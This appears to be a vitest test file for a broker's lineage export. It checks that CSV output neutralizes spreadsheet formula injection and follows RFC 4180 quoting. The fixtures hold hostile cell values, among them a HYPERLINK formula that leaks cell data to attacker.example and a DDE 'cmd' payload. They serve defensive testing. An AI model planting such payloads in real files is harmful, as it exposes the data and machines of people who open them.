import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvRecord, neutralizeFormula } from "../../broker/lineage/csv-encoding.js";
import { startTestBroker, type TestBroker } from "../support/test-broker.js";
import { createApplication, createWorkload, csvObjects, exportLineage, issueToken, parseCsv, parseNdjson, revokeLease } from "./lineage-fixtures.js";

describe("CSV encoding", () => {
  it.each([
    { cell: "=1+2", expected: "'=1+2" },
    { cell: "+SUM(A1)", expected: "'+SUM(A1)" },
    { cell: "-2+3", expected: "'-2+3" },
    { cell: "@cmd", expected: "'@cmd" },
    { cell: "\t=1", expected: "'\t=1" },
    { cell: "\r=1", expected: "'\r=1" },
    { cell: "a=1", expected: "a=1" },
    { cell: "'=1", expected: "'=1" },
    { cell: "", expected: "" },
    { cell: "2026-06-01T12:00:00.000Z", expected: "2026-06-01T12:00:00.000Z" },
  ])("neutralizes formula start in $cell", ({ cell, expected }) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it.each([
    { cells: ["a", "b"], expected: "a,b\r\n" },
    { cells: ["a,b", "c"], expected: '"a,b",c\r\n' },
    { cells: ['say "hi"'], expected: '"say ""hi"""\r\n' },
    { cells: ["two\nlines", "x"], expected: '"two\nlines",x\r\n' },
    { cells: ["cr\r\nlf"], expected: '"cr\r\nlf"\r\n' },
    { cells: ["", ""], expected: ",\r\n" },
    { cells: ["=HYPERLINK(\"http://x\",\"a,b\")"], expected: '"\'=HYPERLINK(""http://x"",""a,b"")"\r\n' },
  ])("quotes $cells as RFC 4180", ({ cells, expected }) => {
    const encoded = csvRecord(cells);
    expect(encoded).toBe(expected);
    expect(parseCsv(encoded)).toEqual([cells.map(neutralizeFormula)]);
  });
});

describe("GET /v1/lineage?format=csv", () => {
  let broker: TestBroker;
  const hostileOwner = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")';
  const hostileBusinessOwner = "+1+cmd|' /C calc'!A0";
  const hostileReason = '-2+3, then "quoted"\r\nand a second line';

  beforeAll(async () => {
    broker = await startTestBroker();
    const applicationId = await createApplication(broker, { business_owner: hostileBusinessOwner });
    const workload = await createWorkload(broker, { applicationId, account: { technical_owner: hostileOwner } });
    const first = await issueToken(broker, workload);
    await revokeLease(broker, first.lease_id, hostileReason);
    broker.clock.advance(60_000);
    const second = await issueToken(broker, workload);
    await revokeLease(broker, second.lease_id, "@SUM(1,2)");
  });

  afterAll(async () => {
    await broker?.close();
  });

  it("prefixes formula cells with a single quote", async () => {
    const csv = await exportLineage(broker, { format: "csv" });
    expect(csv.status).toBe(200);
    const { rows } = csvObjects(csv.text);

    expect(rows).toHaveLength(2);
    expect(rows[0]!["technical_owner"]).toBe(`'${hostileOwner}`);
    expect(rows[0]!["business_owner"]).toBe(`'${hostileBusinessOwner}`);
    expect(rows[0]!["revoke_reason"]).toBe(`'${hostileReason}`);
    expect(rows[1]!["revoke_reason"]).toBe("'@SUM(1,2)");
  });

  it("leaves no cell that starts a formula", async () => {
    const { rows } = csvObjects((await exportLineage(broker, { format: "csv" })).text);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it("keeps the original text in JSON and NDJSON", async () => {
    const [row] = parseNdjson((await exportLineage(broker)).text);
    expect(row.technical_owner).toBe(hostileOwner);
    expect(row.business_owner).toBe(hostileBusinessOwner);
    expect(row.revoke_reason).toBe(hostileReason);

    const [jsonRow] = JSON.parse((await exportLineage(broker, { format: "json" })).text);
    expect(jsonRow.revoke_reason).toBe(hostileReason);
  });
});
